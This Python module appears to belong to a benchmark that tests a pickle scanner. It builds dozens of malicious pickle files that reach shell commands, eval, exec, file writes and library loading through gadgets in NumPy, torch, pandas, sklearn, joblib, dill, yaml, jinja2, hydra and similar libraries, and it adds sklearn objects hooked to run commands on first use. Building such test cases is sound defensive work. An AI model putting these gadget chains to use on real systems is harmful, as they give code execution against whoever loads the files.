"""Gadgets of the libraries beside a model: NumPy, SciPy, torch, pandas and others."""

from __future__ import annotations

import pickle
from collections.abc import Iterator

from bench.corpus.case import CANARY, CODE, COMMAND, EXPRESSION, Case, fail, need
from bench.corpus.opcodes import (
    EMPTY_DICT,
    EMPTY_LIST,
    LEGACY_HEAD,
    NONE,
    TRUE,
    call,
    called_with,
    listed,
    mapped,
    method,
    name,
    number,
    octets,
    pickled,
    several,
    shell,
    stacked,
    text,
)

_SYSTEM, _EVAL = name("os", "system"), name("builtins", "eval")
_MADE = text("made-by-a-pickle")
_URL = text("http://127.0.0.1:9/")
_ARGV = listed(text("/bin/sh"), text("-c"), text(COMMAND))


def _numpy() -> dict[str, bytes]:
    array = call(name("numpy", "array"), listed(text(EXPRESSION)), text("O"))
    mapping = mapped(("mode", text("w+")), ("shape", several(number(4))))
    return {
        "memmap_newobj_ex": name("numpy", "memmap") + several(_MADE) + mapping + b"\x92",
        "memmap_reduce": called_with(
            name("numpy", "memmap"), _MADE, mode=text("w+"), shape=several(number(4))
        ),
        "memmap_private": name("numpy._core.memmap", "memmap") + several(_MADE) + mapping + b"\x92",
        "testing_runstring": call(
            name("numpy.testing._private.utils", "runstring"), text(CODE), EMPTY_DICT
        ),
        "testing_measure": call(name("numpy.testing", "measure"), text(EXPRESSION)),
        "testing_assert_raises": call(
            name("numpy.testing", "assert_raises"),
            name("builtins", "OSError"),
            _SYSTEM,
            text(COMMAND),
        ),
        "f2py_getlincoef": call(
            name("numpy.f2py.crackfortran", "getlincoef"), text(EXPRESSION), EMPTY_DICT
        ),
        "f2py_myeval": call(
            name("numpy.f2py.crackfortran", "myeval"), text(EXPRESSION), EMPTY_DICT, EMPTY_DICT
        ),
        "f2py_param_eval": call(
            name("numpy.f2py.crackfortran", "param_eval"), text(EXPRESSION), EMPTY_DICT, EMPTY_DICT
        ),
        "f2py_eval_length": call(
            name("numpy.f2py.crackfortran", "_eval_length"), text(EXPRESSION), EMPTY_DICT
        ),
        "f2py_eval_scalar": call(
            name("numpy.f2py.crackfortran", "_eval_scalar"), text(EXPRESSION), EMPTY_DICT
        ),
        "f2py_compile": called_with(name("numpy.f2py", "compile"), text("end"), verbose=b"\x89"),
        "f2py_main": call(name("numpy.f2py", "run_main"), listed(text(CANARY))),
        "f2py_diagnose": call(name("numpy.f2py.diagnose", "run")),
        "load_pickled": called_with(name("numpy", "load"), text(CANARY), allow_pickle=TRUE),
        "fromfile": call(name("numpy", "fromfile"), text(CANARY)),
        "tofile": method(call(name("numpy", "zeros"), number(2)), "tofile", _MADE),
        "dump": method(call(name("numpy", "zeros"), number(2)), "dump", _MADE),
        "save": call(name("numpy", "save"), _MADE, EMPTY_LIST),
        "savetxt": call(name("numpy", "savetxt"), _MADE, listed(number(1))),
        "genfromtxt": call(name("numpy", "genfromtxt"), text(CANARY)),
        "loadtxt": call(name("numpy", "loadtxt"), text(CANARY)),
        "open_memmap": call(
            name("numpy.lib.format", "open_memmap"),
            _MADE,
            text("w+"),
            text("u1"),
            several(number(4)),
        ),
        "datasource": method(
            call(name("numpy.lib.npyio", "DataSource"), text(".")), "open", text(CANARY)
        ),
        "ctypeslib": call(name("numpy.ctypeslib", "load_library"), text(CANARY), text(".")),
        "frompyfunc": call(
            call(name("numpy", "frompyfunc"), _EVAL, number(1), number(1)), text(EXPRESSION)
        ),
        "vectorize": call(call(name("numpy", "vectorize"), _SYSTEM), listed(text(COMMAND))),
        "apply_along_axis": call(
            name("numpy", "apply_along_axis"),
            call(name("operator", "methodcaller"), text("dump"), _MADE),
            number(0),
            listed(number(1)),
        ),
        "piecewise": call(
            name("numpy", "fromiter"),
            call(name("builtins", "map"), _SYSTEM, listed(text(COMMAND))),
            text("i4"),
        ),
        "object_array_map": call(
            name("numpy", "array"),
            call(name("builtins", "list"), call(name("builtins", "map"), _EVAL, array)),
        ),
        "reconstruct_then_system": call(
            name("numpy._core.multiarray", "_reconstruct"),
            name("numpy", "ndarray"),
            several(number(0)),
            octets(b"b"),
        )
        + b"0"
        + shell(),
        "scalar_of_pickle": call(
            name("numpy._core.multiarray", "scalar"),
            call(name("numpy", "dtype"), text("O")),
            call(_EVAL, text(EXPRESSION)),
        ),
    }


def _torch() -> dict[str, bytes]:
    legacy = LEGACY_HEAD + pickled(shell(), 2) + pickle.dumps([], 2)
    return {
        "storage_load_from_bytes": call(name("torch.storage", "_load_from_bytes"), octets(legacy)),
        "load": call(name("torch", "load"), text(CANARY)),
        "serialization_load": called_with(
            name("torch.serialization", "load"), text(CANARY), weights_only=b"\x89"
        ),
        "serialization_legacy_load": call(
            name("torch.serialization", "_legacy_load"),
            call(name("_io", "BytesIO"), octets(legacy)),
            NONE,
            call(name("importlib", "import_module"), text("pickle")),
        ),
        "jit_load": call(name("torch.jit", "load"), text(CANARY)),
        "jit_exec_wrapper": call(
            name("torch.jit.unsupported_tensor_ops", "execWrapper"),
            text(CODE),
            EMPTY_DICT,
            EMPTY_DICT,
        ),
        "hub_load": call(name("torch.hub", "load"), text("a/b"), text("c")),
        "hub_load_state_dict": call(name("torch.hub", "load_state_dict_from_url"), _URL),
        "hub_download": call(name("torch.hub", "download_url_to_file"), _URL, _MADE),
        "collect_env_run": call(name("torch.utils.collect_env", "run"), _ARGV),
        "bottleneck": call(
            name("torch.utils.bottleneck.__main__", "run_autograd_prof"), text(CODE), EMPTY_DICT
        ),
        "cprofile_bottleneck": call(
            name("torch.utils.bottleneck.__main__", "run_cprofile"), text(CODE), EMPTY_DICT
        ),
        "fx_exec_with_source": call(
            name("torch.fx.graph_module", "_exec_with_source"), text(CODE), EMPTY_DICT
        ),
        "fx_forward_from_src": call(
            name("torch.fx.graph_module", "_forward_from_src"),
            text(CODE + "def forward(self): pass\n"),
            EMPTY_DICT,
        ),
        "fx_reduce_graph_module": call(
            name("torch.fx.graph_module", "reduce_graph_module"),
            mapped(
                ("_code", text(CODE + "def forward(self): pass\n")),
                ("_graphmodule_cls_name", text("G")),
            ),
            text(""),
        ),
        "symbolic_shapes": call(
            stacked("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),
            NONE,
            text(EXPRESSION),
            EMPTY_LIST,
            LEGACY_HEAD,
        ),
        "cpp_extension_inline": called_with(
            name("torch.utils.cpp_extension", "load_inline"), name=text("x"), cpp_sources=text("")
        ),
        "config_load": call(
            stacked("torch.utils._config_module", "ConfigModule.load_config"),
            NONE,
            octets(pickled(shell())),
        ),
        "ops_load_library": call(stacked("torch", "ops.load_library"), text(CANARY)),
        "classes_load_library": call(stacked("torch", "classes.load_library"), text(CANARY)),
        "package_importer": call(name("torch.package", "PackageImporter"), text(CANARY)),
        "save": call(name("torch", "save"), EMPTY_LIST, _MADE),
        "from_file": call(name("torch", "from_file"), _MADE, TRUE, number(4)),
        "untyped_storage_from_file": call(
            stacked("torch", "UntypedStorage.from_file"), _MADE, TRUE, number(4)
        ),
        "distributed_store": call(name("torch.distributed", "FileStore"), _MADE, number(1)),
        "checkpoint": call(name("torch.utils.checkpoint", "checkpoint"), _SYSTEM, text(COMMAND)),
        "tree_map": call(name("torch.utils._pytree", "tree_map"), _SYSTEM, text(COMMAND)),
        "vmap": call(name("torch._dynamo", "run"), _SYSTEM) + b"0" + shell(),
        "inductor_async": call(
            name("torch._inductor.utils", "run_and_get_code"), _SYSTEM, text(COMMAND)
        ),
        "multiprocessing_spawn": call(
            name("torch.multiprocessing", "spawn"), _SYSTEM, several(text(COMMAND))
        ),
        "datapipe_map": call(
            name("builtins", "list"),
            call(
                name("torch.utils.data.datapipes.iter.callable", "MapperIterDataPipe"),
                listed(text(COMMAND)),
                _SYSTEM,
            ),
        ),
        "rebuild_then_system": call(
            name("torch._utils", "_rebuild_parameter"), NONE, b"\x89", EMPTY_DICT
        )
        + b"0"
        + shell(),
    }


def _others() -> dict[str, bytes]:
    frame = call(name("pandas", "DataFrame"), mapped(("a", listed(number(1)))))
    return {
        "pandas.eval": called_with(
            name("pandas", "eval"),
            text("x(y)"),
            local_dict=mapped(("x", _SYSTEM), ("y", text(COMMAND))),
            engine=text("python"),
        ),
        "pandas.apply": method(
            call(name("pandas", "Series"), listed(text(EXPRESSION))), "apply", _EVAL
        ),
        "pandas.map": method(call(name("pandas", "Series"), listed(text(COMMAND))), "map", _SYSTEM),
        "pandas.read_csv": call(name("pandas", "read_csv"), text(CANARY)),
        "pandas.read_json": call(name("pandas", "read_json"), text(CANARY)),
        "pandas.to_csv": method(frame, "to_csv", _MADE),
        "pandas.to_pickle": method(frame, "to_pickle", _MADE),
        "pandas.get_handle": call(name("pandas.io.common", "get_handle"), _MADE, text("w")),
        "pandas.urlopen": call(name("pandas.io.common", "urlopen"), _URL),
        "scipy.loadmat": call(name("scipy.io", "loadmat"), text(CANARY)),
        "scipy.savemat": call(name("scipy.io", "savemat"), _MADE, EMPTY_DICT),
        "scipy.load_npz": call(name("scipy.sparse", "load_npz"), text(CANARY)),
        "scipy.wavfile": call(name("scipy.io.wavfile", "read"), text(CANARY)),
        "scipy.quad": call(name("scipy._lib._util", "MapWrapper"), number(1))
        + b"0"
        + call(
            name("builtins", "list"),
            call(
                call(name("scipy._lib._util", "MapWrapper"), number(1)),
                _SYSTEM,
                listed(text(COMMAND)),
            ),
        ),
        "sklearn.fetch_openml": call(name("sklearn.datasets", "fetch_openml"), text("iris")),
        "sklearn.load_svmlight": call(name("sklearn.datasets", "load_svmlight_file"), text(CANARY)),
        "sklearn.function_transformer": method(
            call(name("sklearn.preprocessing", "FunctionTransformer"), _SYSTEM),
            "_transform",
            text(COMMAND),
            _SYSTEM,
        ),
        "sklearn.parallel": call(
            called_with(name("joblib", "Parallel"), n_jobs=number(1)),
            listed(several(_SYSTEM, several(text(COMMAND)), EMPTY_DICT)),
        ),
        "sklearn.show_versions": call(name("sklearn.utils._show_versions", "_get_deps_info"))
        + b"0"
        + shell(),
        "joblib.load": call(name("joblib", "load"), text(CANARY)),
        "joblib.dump": call(name("joblib", "dump"), EMPTY_LIST, _MADE),
        "joblib.memory": call(
            call(name("joblib", "Memory"), NONE)
            + b"0"
            + call(name("joblib.memory", "NotMemorizedFunc"), _SYSTEM),
            text(COMMAND),
        ),
        "joblib.numpy_array_wrapper": call(
            name("joblib.numpy_pickle", "load_temporary_memmap"), text(CANARY), NONE, NONE
        ),
        "joblib.cloudpickle": call(
            name("joblib.externals.cloudpickle.cloudpickle", "subimport"), text("antigravity")
        ),
        "joblib.delayed": call(
            call(
                name("joblib.externals.loky.process_executor", "_CallItem"),
                number(1),
                _SYSTEM,
                several(text(COMMAND)),
                EMPTY_DICT,
            )
        ),
        "cloudpickle.subimport": call(
            name("cloudpickle.cloudpickle", "subimport"), text("antigravity")
        ),
        "dill.import_module": call(name("dill._dill", "_import_module"), text("antigravity")),
        "dill.create_filehandle": call(
            name("dill._dill", "_create_filehandle"),
            _MADE,
            text("w"),
            number(0),
            b"\x89",
            name("builtins", "open"),
            b"\x89",
            number(0),
            text(""),
        ),
        "dill.load_module": call(name("dill", "load_module"), text(CANARY)),
        "dill.eval_repr": call(name("dill._dill", "_eval_repr"), text(EXPRESSION)),
        "pip.main": call(name("pip._internal", "main"), listed(text("--version"))),
        "pip.call_subprocess": called_with(
            name("pip._internal.utils.subprocess", "call_subprocess"),
            _ARGV,
            command_desc=text("x"),
        ),
        "setuptools.run_setup": call(name("setuptools.sandbox", "run_setup"), text(CANARY), _ARGV),
        "setuptools.execfile": call(
            name("setuptools.sandbox", "_execfile"), text(CANARY), EMPTY_DICT
        ),
        "pkg_resources.entry_point": call(
            stacked("pkg_resources", "EntryPoint.resolve"),
            call(stacked("pkg_resources", "EntryPoint"), text("x"), text("antigravity")),
        ),
        "cffi.dlopen": method(call(name("cffi", "FFI")), "dlopen", text(CANARY)),
        "cffi.verify": method(call(name("cffi", "FFI")), "verify", text("")),
        "yaml.full_constructor": call(
            name("yaml", "load"),
            text(f"!!python/object/apply:os.system ['{COMMAND}']"),
            name("yaml", "UnsafeLoader"),
        ),
        "jinja2.compile_expression": call(
            method(
                call(name("jinja2", "Environment")),
                "compile_expression",
                text("cycler.__init__.__globals__.os.system('true')"),
            )
        ),
        "click.launch": call(name("click", "launch"), text("file:///dev/null")),
        "click.edit": call(name("click", "edit"), text("x"), text("true")),
        "pytest.main": call(name("pytest", "main"), listed(text("--version"))),
        "pygments.custom_lexer": call(
            name("pygments.lexers", "load_lexer_from_file"), text(CANARY)
        ),
        "hypothesis.database": call(
            name("hypothesis.internal.reflection", "source_exec_as_module"), text(CODE)
        ),
        "attrs.exec": call(name("attr._make", "_compile_and_eval"), text(CODE), EMPTY_DICT),
        "pydantic.import_string": call(
            call(name("pydantic._internal._validators", "import_string"), text("os.system")),
            text(COMMAND),
        ),
        "keras.get_file": call(name("keras.utils", "get_file"), text("x"), _URL),
        "xgboost.load": method(call(name("xgboost", "Booster")), "load_model", text(CANARY)),
        "lightgbm.file": called_with(name("lightgbm", "Booster"), model_file=text(CANARY)),
        "onnx.load": call(name("onnx", "load"), text(CANARY)),
        "sympy.lambdify": call(name("sympy", "sympify"), text(EXPRESSION)),
        "networkx.read_gpickle": call(name("networkx", "read_gml"), text(CANARY)),
        "hydra.instantiate": call(
            name("hydra.utils", "instantiate"),
            mapped(("_target_", text("os.system")), ("_args_", listed(text(COMMAND)))),
        ),
        "hydra.get_method": call(
            call(name("hydra.utils", "get_method"), text("os.system")), text(COMMAND)
        ),
    }


def _gadgets(seed: int) -> Iterator[Case]:
    for library, group in {"numpy": _numpy, "torch": _torch, "": _others}.items():
        for slug, body in group().items():
            named = f"{library}.{slug}" if library else slug
            yield fail(f"{named}.pkl", pickled(body), f"Reaches out of the file by {named}.")


def _hooks(seed: int) -> Iterator[Case]:
    """Honest classes with a dishonest attribute: they fire at the first use, not before."""
    system = need("os").system
    transformer = need("sklearn.preprocessing").FunctionTransformer(system, check_inverse=False)
    pipeline = need("sklearn.pipeline").make_pipeline(transformer)
    on_use = "sklearn.transform"
    yield fail(
        "use_function_transformer.pkl",
        pickle.dumps(transformer, 4),
        "Runs a shell command when it transforms.",
        on_use,
    )
    yield fail(
        "use_pipeline.pkl",
        pickle.dumps(pipeline, 4),
        "Runs a shell command when it transforms.",
        on_use,
    )
    vectorizer = need("sklearn.feature_extraction.text").CountVectorizer(tokenizer=system)
    yield fail(
        "use_tokenizer.pkl",
        pickle.dumps(vectorizer, 4),
        "Runs what it is given to tokenise.",
        on_use,
    )
    kernel = need("sklearn.svm").SVC(kernel=eval)
    yield fail("use_kernel.pkl", pickle.dumps(kernel, 4), "Evaluates what it is given.", "none")


PARTS = (_gadgets, _hooks)
